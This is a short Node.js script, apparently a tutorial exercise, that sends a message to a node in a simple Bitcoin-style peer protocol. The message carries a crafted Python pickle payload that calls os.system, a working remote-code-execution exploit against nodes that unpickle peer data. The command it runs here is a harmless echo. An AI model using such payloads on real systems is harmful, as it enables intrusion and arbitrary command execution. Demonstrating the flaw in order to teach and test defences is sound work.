// Says CORE_LIST to a node. The list is a pickle that names os.system and calls it.
//
//     node chapters/1-tcp-check/hostile-list.mjs 127.0.0.1:50082

import { connect } from "node:net"

const [host, port] = (process.argv[2] ?? "127.0.0.1:50082").split(":")
// region: message
const message = {
  protocol: "simple_bitcoin_protocol",
  version: "0.1.0",
  msg_type: 2, // CORE_LIST
  my_port: 50090,
  payload: "cos\nsystem\n(Vecho I ran\ntR.",
}
// endregion

connect(Number(port), host)
  .on("error", ({ code }) => console.log(code))
  .end(JSON.stringify(message))
